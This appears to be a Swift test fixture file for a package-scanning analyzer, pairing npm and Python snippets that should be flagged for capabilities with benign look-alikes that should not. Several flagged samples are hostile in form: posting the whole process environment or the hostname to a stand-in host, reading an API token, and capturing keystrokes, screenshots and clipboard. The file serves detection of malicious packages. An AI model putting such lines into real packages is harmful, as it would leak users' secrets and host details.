@testable import Analyzers

private func can(_ word: String) -> Observation { Observation("can-\(word)") }

let capabilityFixtures = RuleFixtures(
    flagged: [
        can("network"): { try npmCode("require('https').get(address)\n") },
        can("process"): { try wheelCode("import subprocess\nsubprocess.run(['ls'])\n") },
        can("file-read"): { try npmCode("require('fs').readFileSync(name)\n") },
        can("file-write"): { try wheelCode("open('a.txt', 'w').write('x')\n") },
        can("file-delete"): { try npmCode("require('fs').unlinkSync(name)\n") },
        can("environment"): { try npmCode("module.exports = process.env.HOME\n") },
        can("environment-secret"): { try wheelCode("import os\nkey = os.environ['ACME_API_TOKEN']\n") },
        can("environment-all"): { try wheelCode("import os\nenv = dict(os.environ)\n") },
        can("evaluation"): { try npmCode("exports.run = function (text) { return eval(text) }\n") },
        can("dynamic-load"): { try npmCode("exports.load = function (name) { return require(name) }\n") },
        can("foreign-code"): { try wheelCode("import ctypes\nlib = ctypes.CDLL('libacme.so')\n") },
        can("crypto"): { try npmCode("require('crypto').createHash('sha256')\n") },
        can("clipboard"): { try wheelCode("import pyperclip\npyperclip.paste()\n") },
        can("screen"): { try wheelCode("import pyautogui\npyautogui.screenshot()\n") },
        can("keyboard"): { try wheelCode("from pynput import keyboard\nkeyboard.Listener(on_press=print)\n") },
        can("system-facts"): {
            try wheelCode(
                "import getpass, platform, socket\nx = (socket.gethostname(), getpass.getuser(), platform.system())\n")
        },
        .environmentSerialised: { try npmCode("console.log(JSON.stringify(process.env))\n") },
        .environmentSent: {
            try wheelCode("import os, requests\ndef tell(to):\n    requests.post(to, json=dict(os.environ))\n")
        },
        .wholeEnvironmentSent: {
            try wheelCode("import os, requests\nrequests.post('https://x.example', json=dict(os.environ))\n")
        },
        .hostFactsSent: {
            try wheelCode(
                """
                import requests, socket
                name = socket.gethostname()
                requests.get('https://x.example/', params={'n': name})

                """)
        },
    ],
    clean: [
        "CAP-NET": { try npmCode("exports.get = function (map, key) { return map.get(key) }\n") },
        "CAP-PROC": { try npmCode("exports.exec = function (text) { return /a/.exec(text) }\n") },
        "CAP-FS-R": { try wheelCode("def read(stream):\n    return stream.read()\n") },
        "CAP-FS-W": { try npmCode("exports.write = function (out) { out.write('x') }\n") },
        "CAP-FS-DEL": { try wheelCode("def remove(items, item):\n    items.remove(item)\n") },
        "CAP-ENV": { try npmCode("exports.env = { HOME: 1 }\n") },
        "CAP-ENV-SECRET": { try wheelCode("import os\nhome = os.environ['HOME']\n") },
        "CAP-ENV-ALL": { try npmCode("console.log(JSON.stringify(process.env.HOME))\n") },
        "CAP-EVAL": { try npmCode("// eval(text)\nexports.text = 'eval(text)'\n") },
        "CAP-DYNLOAD": { try npmCode("exports.a = require('./a')\n") },
        "CAP-FFI": { try wheelCode("ctypes = 1\n") },
        "CAP-CRYPTO": { try wheelCode("def hash(x):\n    return x\n") },
        "CAP-CLIP": { try npmCode("exports.copy = function (a) { return a.slice() }\n") },
        "CAP-SCREEN": { try npmCode("exports.grab = 1\n") },
        "CAP-KEYS": { try wheelCode("keyboard = 1\n") },
        "CAP-SYSINFO": { try wheelCode("import platform\nx = platform.system()\n") },
    ])
